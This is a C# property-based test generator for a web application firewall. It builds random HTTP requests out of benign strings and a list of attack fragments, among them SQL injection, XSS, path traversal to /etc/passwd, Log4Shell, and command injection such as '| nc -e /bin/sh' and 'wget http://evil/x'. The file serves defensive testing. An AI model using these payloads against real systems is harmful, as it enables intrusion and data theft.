using System.Text;
using CsCheck;

namespace Bulwark.Waf.Tests.Evaluation;

/// <summary>Requests made of pieces that rules look for, of ordinary text and of bytes, in every place that a request has.</summary>
internal static class RandomRequests
{
    private static readonly string[] Pieces =
    [
        "hello", "Hello World", "", "a", "42", "-1", "3.14", "true", "2026-11-28T10:00:00Z", "user@example.org", "https://example.org/a?b=c#d", "Zażółć gęślą",
        "' or 1=1--", "1' UNION SELECT password FROM users--", "1; drop table x", "sleep(5)", "@@version", "xp_cmdshell", "/**/or/**/1", "0x41424344", "concat(char(65))", "' and '1'='1",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "<svg/onload=1>", "expression(", "&lt;script&gt;", "\\x3cscript", "%3Cscript%3E", "<a href=\"x\">",
        "../../../../etc/passwd", "..%2f..%2fetc", "/etc/shadow", ".htaccess", "c:\\windows\\win.ini", "file:///etc/passwd", "php://input", "data:text/html;base64,PHNjcmlwdD4=",
        ";cat /etc/passwd", "$(id)", "`whoami`", "| nc -e /bin/sh", "cmd.exe /c dir", "powershell -enc", "${jndi:ldap://x/y}", "() { :; };", "wget http://evil/x", "time weather", "ping -c 1 x",
        "<?php phpinfo(); ?>", "$_GET['x']", "base64_decode(", "eval(", "_$$ND_FUNC$$_", "process.env", "require('fs')", "java.lang.Runtime", "T(java.lang.Runtime)", "{{7*7}}", "%{(#a=1)}",
        "\r\nSet-Cookie: x=1", "\0", "%00", "%u0061", "\u00ff\u00fe", "%c0%ae", "&#x3c;script&#62;", "\\u003cscript", "  spaces\t\n", "UPPER case", "a=b&c=d", "x;y", "[1,2]", "{\"a\":1}",
        "sqlmap/1.0", "nikto", "Mozilla/5.0 (X11; Linux)", "curl/8", "gzip, deflate", "text/html,*/*;q=0.8", "bytes=0-1,2-3,4-5,6-7,8-9,10-11", "127.0.0.1", "example.org", "close, keep-alive",
        "SELECT name FROM t WHERE id = 1 ORDER BY 2", "I think that or this; and then some (more) text, isn't it?", "query { room(id: 1) { name } }", "aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=",
    ];

    private static readonly string[] Names = ["a", "id", "q", "file", "user[name]", "x.y", "cmd", "page", "__proto__", "a'b", "<b>", "JSESSIONID", "phpsessid", "csrf-token", "constructor.prototype"];

    private static readonly string[] HeaderNames =
        ["User-Agent", "Referer", "Cookie", "Accept", "Accept-Encoding", "Range", "X-Forwarded-For", "Content-Encoding", "Connection", "Transfer-Encoding", "X-Custom", "Authorization", "Content-Type"];

    private static readonly Gen<string> Piece = Gen.OneOf(Pieces);

    private static readonly Gen<string> Text = Gen.Frequency(
        (6, Piece),
        (3, Gen.Select(Piece, Piece, (left, right) => left + right)),
        (2, Gen.Select(Piece, Piece, Piece, (one, two, three) => $"{one} {two} {three}")),
        (1, Gen.Byte.Array[0, 40].Select(Encoding.Latin1.GetString)));

    private static readonly Gen<(string Name, string Value)[]> Pairs = Gen.Select(Gen.Frequency((4, Gen.OneOf(Names)), (1, Text)), Text).Array[0, 6];

    private static readonly Gen<(string Name, string Value)[]> Headers = Gen.Select(Gen.OneOf(HeaderNames), Text.Select(OneLine)).Array[0, 4];

    public static readonly Gen<SampleRequest> Any = Gen.Select(
        Gen.OneOf("GET", "POST", "PUT", "HEAD", "OPTIONS", "TRACE", "PROPFIND"),
        Gen.OneOf("/", "/index.php", "/a/b/c.html", "/.env", "/admin/../x", "/_matrix/client/v3/rooms/!x:y/send/m.room.message/1", "/x%20y", "/wp-login.php"),
        Pairs,
        Headers,
        Gen.OneOf("form", "json", "xml", "multipart", "text", "none"),
        Pairs,
        Text,
        Build);

    private static SampleRequest Build(
        string method, string path, (string Name, string Value)[] query, (string Name, string Value)[] headers, string kind, (string Name, string Value)[] fields, string response)
    {
        var (type, body) = BodyOf(kind, fields);
        List<(string, string)> all = [("Host", "example.org"), .. headers];
        if (body is not null)
            all.AddRange([("Content-Type", type), ("Content-Length", $"{body.Length}")]);

        var target = query.Length == 0 ? path : path + "?" + Form(query);
        return new SampleRequest($"{method} {target} HTTP/1.1", [.. all]) { Body = body, ResponseBody = response };
    }

    private static (string Type, string? Body) BodyOf(string kind, (string Name, string Value)[] fields) => kind switch
    {
        "form" => ("application/x-www-form-urlencoded", Form(fields)),
        "json" => ("application/json", "{\"items\":[" + string.Join(',', fields.Select(field => $"{{{Json(field.Name)}:{Json(field.Value)},\"n\":1}}")) + "]}"),
        "xml" => ("text/xml", "<r>" + string.Concat(fields.Select(field => $"<f n=\"{Xml(field.Name)}\">{Xml(field.Value)}</f>")) + "</r>"),
        "multipart" => ("multipart/form-data; boundary=AaB03x", Multipart(fields)),
        "text" => ("text/plain", string.Concat(fields.Select(field => field.Value))),
        _ => ("", null),
    };

    private static string Form((string Name, string Value)[] fields) =>
        string.Join('&', fields.Select((field, i) => i % 3 == 2 ? OneLine(field.Name + "=" + field.Value).Replace(' ', '+') : Escape(field.Name) + "=" + Escape(field.Value)));

    private static string Multipart((string Name, string Value)[] fields) =>
        string.Concat(fields.Select((field, i) => $"--AaB03x\r\nContent-Disposition: form-data; name=\"{OneLine(field.Name)}\"{(i % 2 == 1 ? $"; filename=\"{OneLine(field.Value)}\"" : "")}\r\n\r\n{field.Value}\r\n")) + "--AaB03x--\r\n";

    private static string Escape(string text) => string.Concat(Encoding.Latin1.GetBytes(text).Select(one => char.IsAsciiLetterOrDigit((char)one) ? $"{(char)one}" : $"%{one:X2}"));

    private static string OneLine(string text) => text.Replace("\r", "", StringComparison.Ordinal).Replace("\n", "", StringComparison.Ordinal);

    private static string Json(string text) => "\"" + string.Concat(text.Select(one => one is '"' or '\\' ? $"\\{one}" : one < ' ' ? $"\\u{(int)one:x4}" : $"{one}")) + "\"";

    private static string Xml(string text) => text.Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&lt;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal);
}
